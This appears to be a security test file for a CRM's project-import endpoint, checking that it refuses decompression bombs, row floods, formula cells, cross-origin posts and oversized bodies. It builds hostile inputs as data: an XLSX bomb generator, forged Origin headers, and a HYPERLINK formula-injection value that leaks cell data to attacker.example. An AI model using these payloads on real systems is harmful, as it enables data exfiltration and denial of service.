/**
 * Hostile uploads (issue 12 §3): bombs, forged cross-origin posts, formula
 * cells, GBK files, formula injection into the template, oversized bodies.
 * Through the route handler where the user's answer matters.
 */
import { randomUUID } from "node:crypto";
import ExcelJS from "exceljs";
import { beforeAll, describe, expect, it } from "vitest";
import { testDb, uniq } from "@/test/factories";
import { createApiToken } from "@/lib/data/api-tokens";
import { POST } from "@/app/api/import/projects/route";
import { GET as templateCsvGET } from "@/app/api/import/template.csv/route";
import { csv, fixture, row, setUpImportFixture } from "@/lib/import/import.test-helpers";
import { gbk, megabytes, xlsxOf } from "@/lib/import/hostile-files.test-helpers";
import { importProjects } from "@/lib/import/import-projects";
import { isCrossOriginCookieWrite } from "@/lib/http/same-origin";

const db = () => testDb();
let token: string;

beforeAll(async () => {
  await setUpImportFixture();
  const created = await createApiToken(db(), fixture.admin as never, { name: `hostile ${uniq()}`, expiresOn: new Date(Date.now() + 86_400_000), requestId: randomUUID() });
  token = created.token!;
  // Warm up (the database client, the route's modules, a worker) so the
  // figures below are the upload's, not a cold start's.
  await POST(upload(csv([]), "warm.csv"));
});

function upload(bytes: Uint8Array, name: string, headers: Record<string, string> = { authorization: `Bearer ${token}` }) {
  const form = new FormData();
  form.set("file", new File([bytes as BlobPart], name));
  return new Request("http://localhost:3000/api/import/projects", { method: "POST", body: form, headers: { "accept-language": "en", ...headers } });
}

/**
 * Runs `work` while a 10 ms timer watches the event loop (how late it fires
 * is how long every other user's request would wait) and the process's RSS.
 * The timer's first tick after the work is awaited, so a stall at the very
 * end is seen too.
 */
async function watched<T>(work: () => Promise<T>) {
  const rss0 = process.memoryUsage.rss();
  let peak = rss0;
  let maxLag = 0;
  let last = performance.now();
  let onTick: (() => void) | null = null;
  const timer = setInterval(() => {
    const now = performance.now();
    maxLag = Math.max(maxLag, now - last - 10);
    last = now;
    peak = Math.max(peak, process.memoryUsage.rss());
    onTick?.();
  }, 10);
  const started = performance.now();
  try {
    const result = await work();
    const ms = Math.round(performance.now() - started);
    await new Promise<void>((resolve) => (onTick = resolve));
    return { result, ms, maxLagMs: Math.round(maxLag), rssGrowthMb: Math.round((peak - rss0) / 1024 / 1024), peakRssMb: Math.round(peak / 1024 / 1024) };
  } finally {
    clearInterval(timer);
  }
}

const messages = async (response: Response) => ((await response.json()) as { errors: { row: number | null; column: string | null; message: string }[] }).errors;
const HEADER = ["external_id", "project_title", "investor_name", "unit", "stage", "first_contact_date", "owner_email"];
/**
 * Other users must not wait: the event loop's longest stall during an upload
 * (before the fix: seconds; on a busy 2-core machine the scheduler alone
 * accounts for ~100 ms).
 */
const MAX_LAG_MS = 500;

describe("bombs", () => {
  it("refuses a 300 MB cell packed into a few hundred KB before inflating it, the server staying responsive", async () => {
    const bomb = await xlsxOf({ header: HEADER, rows: () => [], sharedExtra: () => megabytes(300) });
    expect(bomb.length).toBeLessThan(1024 * 1024);
    const w = await watched(() => POST(upload(bomb, "bomb.xlsx")));
    console.log(`300 MB cell bomb (${Math.round(bomb.length / 1024)} KB): ${w.ms} ms, event loop max lag ${w.maxLagMs} ms, RSS +${w.rssGrowthMb} MB (peak ${w.peakRssMb} MB)`);
    expect(w.result.status).toBe(400);
    expect(await messages(w.result)).toEqual([{ row: null, column: null, message: expect.stringContaining("unpacks to more than 100 MB") }]);
    expect(w.maxLagMs).toBeLessThan(MAX_LAG_MS);
    expect(w.rssGrowthMb).toBeLessThan(300);
  });

  it("refuses the bomb when its ZIP declares a small size, inflating no more than that", async () => {
    const bomb = await xlsxOf({ header: HEADER, rows: () => [], sharedExtra: () => megabytes(300), lie: { "xl/sharedStrings.xml": 4096 } });
    const w = await watched(() => POST(upload(bomb, "liar.xlsx")));
    console.log(`lying 300 MB bomb: ${w.ms} ms, event loop max lag ${w.maxLagMs} ms, RSS +${w.rssGrowthMb} MB (peak ${w.peakRssMb} MB)`);
    expect(w.result.status).toBe(400);
    expect((await messages(w.result))[0].message).toContain("unpacks to more than 100 MB");
    expect(w.maxLagMs).toBeLessThan(MAX_LAG_MS);
    expect(w.rssGrowthMb).toBeLessThan(300);
  });

  it("stops reading an XLSX of 440,000 rows at the row cap, the server staying responsive", async () => {
    const rows = function* () {
      for (let r = 2; r <= 440_001; r++) yield `<row r="${r}"><c r="A${r}"><v>${r}</v></c><c r="B${r}"><v>1</v></c></row>`;
    };
    const file = await xlsxOf({ header: HEADER, rows });
    const w = await watched(() => POST(upload(file, "rows.xlsx")));
    console.log(`XLSX 440,000 rows (${(file.length / 1024 / 1024).toFixed(1)} MB): ${w.ms} ms, event loop max lag ${w.maxLagMs} ms, RSS +${w.rssGrowthMb} MB`);
    expect(w.result.status).toBe(400);
    expect(await messages(w.result)).toEqual([{ row: null, column: null, message: "The file has more than 20000 data rows. Split it into smaller files." }]);
    expect(w.maxLagMs).toBeLessThan(MAX_LAG_MS);
  });

  it("reads a 9.9 MB CSV off the request thread and stops at the row cap", async () => {
    const lines = [HEADER.join(",")];
    for (let i = 0; lines.length < 255_000; i++) lines.push(`X-${i},t,i,u,intent,2023-01-01,a@b.c`);
    const file = new TextEncoder().encode(lines.join("\n"));
    expect(file.length).toBeLessThan(10 * 1024 * 1024);
    expect(file.length).toBeGreaterThan(9 * 1024 * 1024);
    const w = await watched(() => POST(upload(file, "rows.csv")));
    console.log(`CSV ${lines.length - 1} rows (${(file.length / 1024 / 1024).toFixed(1)} MB): ${w.ms} ms, event loop max lag ${w.maxLagMs} ms, RSS +${w.rssGrowthMb} MB`);
    expect(w.result.status).toBe(400);
    expect((await messages(w.result))[0].message).toContain("more than 20000 data rows");
    expect(w.maxLagMs).toBeLessThan(MAX_LAG_MS);
  });

  it("makes a cell over its column's limit an error of its row, before anything looks it up", async () => {
    const p = uniq();
    // The database as is, except that opening the import's transaction (where the lookups run) is an error.
    const noLookups = new Proxy(db(), {
      get: (target, key) => (key === "$transaction" ? () => Promise.reject(new Error("a lookup ran")) : Reflect.get(target, key)),
    });
    const file = csv([row(`${p}-a`), row(`${p}-b`, { unit: "U".repeat(1_000_000), owner_email: `${"x".repeat(300)}@example.com` })]);
    const result = await importProjects(noLookups, fixture.admin, file);
    expect(result).toEqual({
      ok: false,
      errors: [
        { row: 3, column: "unit", key: "tooLong", params: { max: 100 } },
        { row: 3, column: "owner_email", key: "tooLong", params: { max: 254 } },
      ],
    });
  });
});

describe("formula cells", () => {
  async function withFormula(cell: ExcelJS.CellValue) {
    const p = uniq();
    const wb = new ExcelJS.Workbook();
    const ws = wb.addWorksheet("Projects");
    const r = row(`${p}-f`);
    const cols = Object.keys(r) as (keyof typeof r)[];
    ws.addRow(cols);
    ws.addRow(cols.map((k) => (k === "project_title" ? cell : r[k])));
    return { ext: `${p}-f`, bytes: new Uint8Array(await wb.xlsx.writeBuffer()) };
  }

  it("takes a formula's cached result", async () => {
    const { ext, bytes } = await withFormula({ formula: 'CONCAT("公式","项目")', result: "公式项目" });
    expect(await importProjects(db(), fixture.admin, bytes)).toMatchObject({ ok: true, created: 1 });
    expect((await db().project.findUnique({ where: { externalId: ext } }))?.title).toBe("公式项目");
  });

  it("refuses a formula without a cached result, naming the cell", async () => {
    const { ext, bytes } = await withFormula({ formula: 'CONCAT("公式","项目")' } as ExcelJS.CellValue);
    const response = await POST(upload(bytes, "formula.xlsx"));
    expect(response.status).toBe(400);
    expect(await messages(response)).toEqual([{ row: 2, column: "project_title", message: expect.stringMatching(/^A formula without a calculated value/) }]);
    expect(await db().project.count({ where: { externalId: ext } })).toBe(0);
  });
});

describe("encodings", () => {
  it("imports a GBK-encoded CSV (Chinese Excel's default) with its Chinese intact", async () => {
    const p = uniq();
    const text = new TextDecoder().decode(csv([row(`${p}-g`, { project_title: "年产十万吨新材料项目", investor_name: `示例投资方${p}` })], { headers: "zh" }));
    const bytes = gbk(text);
    expect(() => new TextDecoder("utf-8", { fatal: true }).decode(bytes)).toThrow(); // really not UTF-8
    const result = await importProjects(db(), fixture.admin, bytes);
    expect(result).toMatchObject({ ok: true, created: 1 });
    const project = await db().project.findUnique({ where: { externalId: `${p}-g` }, include: { company: true } });
    expect(project?.title).toBe("年产十万吨新材料项目");
    expect(project?.company.nameZh).toBe(`示例投资方${p}`);
  });
});

describe("the CSV template", () => {
  it("writes the latest event's name as text, never as a formula", async () => {
    const name = `=HYPERLINK("http://attacker.example/?"&A1,"点击${uniq()}")`;
    await db().promotionEvent.create({ data: { nameZh: name, nameEn: "x", cityZh: "北京", startsOn: new Date("2099-01-01"), endsOn: new Date("2099-01-02"), unitId: (await db().unit.findFirstOrThrow()).id } });
    const response = await templateCsvGET(new Request("http://localhost:3000/api/import/template.csv", { headers: { authorization: `Bearer ${token}` } }));
    const [, example] = (await response.text()).split("\r\n");
    expect(example).toContain(`"'=HYPERLINK(""http://attacker.example/?""&A1,""点击`);
    expect(example.split(",").some((cell) => /^"?[=+\-@]/.test(cell))).toBe(false);
  });
});

describe("cross-origin posts", () => {
  const cookie = "next-auth.session-token=anything";
  it("refuses a cookie-authenticated upload posted from another origin (another port of the same host)", async () => {
    const attacks: Record<string, string>[] = [
      { cookie, origin: "http://localhost:3001" },
      { cookie, origin: "null" },
      { cookie, "sec-fetch-site": "same-site" },
      { cookie, referer: "http://localhost:3001/attack.html" },
    ];
    for (const headers of attacks) {
      const response = await POST(upload(csv([row(`${uniq()}-x`)]), "p.csv", headers));
      expect(response.status, JSON.stringify(headers)).toBe(403);
      expect((await messages(response))[0].message).toContain("did not come from this application's own pages");
    }
  });

  it("tells same-origin, token and non-browser requests apart", () => {
    const req = (headers: Record<string, string>, method = "POST") => new Request("http://localhost:3000/api/import/projects", { method, headers });
    const cookie = "next-auth.session-token=x";
    expect(isCrossOriginCookieWrite(req({ cookie, host: "localhost:3000", origin: "http://localhost:3000" }))).toBe(false);
    expect(isCrossOriginCookieWrite(req({ cookie, host: "app:3000", "x-forwarded-host": "crm.example.org", origin: "https://crm.example.org" }))).toBe(false);
    expect(isCrossOriginCookieWrite(req({ cookie, host: "app:3000", "x-forwarded-host": "crm.example.org", origin: "https://evil.example.org" }))).toBe(true);
    expect(isCrossOriginCookieWrite(req({ cookie, host: "localhost:3000", "sec-fetch-site": "same-origin" }))).toBe(false);
    expect(isCrossOriginCookieWrite(req({ cookie, host: "localhost:3000" }))).toBe(false); // curl: no browser headers
    expect(isCrossOriginCookieWrite(req({ authorization: "Bearer x", cookie, host: "localhost:3000", origin: "http://localhost:3001" }))).toBe(false);
    expect(isCrossOriginCookieWrite(req({ host: "localhost:3000", origin: "http://localhost:3001" }))).toBe(false); // no cookie: nothing to forge
    expect(isCrossOriginCookieWrite(req({ cookie, host: "localhost:3000", origin: "http://localhost:3001" }, "GET"))).toBe(false);
  });
});

describe("oversized bodies", () => {
  it("says a body the proxy cut at 12 MB is too large, not that no file came", async () => {
    const form = new FormData();
    form.set("file", new File([new Uint8Array(13 * 1024 * 1024).fill(0x41)], "big.csv"));
    const full = new Uint8Array(await new Response(form).arrayBuffer());
    const contentType = new Response(form).headers.get("content-type")!;
    const cut = full.subarray(0, 12 * 1024 * 1024); // what next.config.js's proxyClientMaxBodySize leaves
    const body = new ReadableStream<Uint8Array>({
      start(controller) {
        for (let i = 0; i < cut.length; i += 1024 * 1024) controller.enqueue(cut.slice(i, i + 1024 * 1024));
        controller.close();
      },
    });
    const request = new Request("http://localhost:3000/api/import/projects", {
      method: "POST",
      body,
      duplex: "half",
      headers: { authorization: `Bearer ${token}`, "accept-language": "en", "content-type": contentType },
    } as RequestInit);
    const response = await POST(request);
    expect(response.status).toBe(400);
    expect(await messages(response)).toEqual([{ row: null, column: null, message: "The file is larger than 10 MB." }]);
  });
});
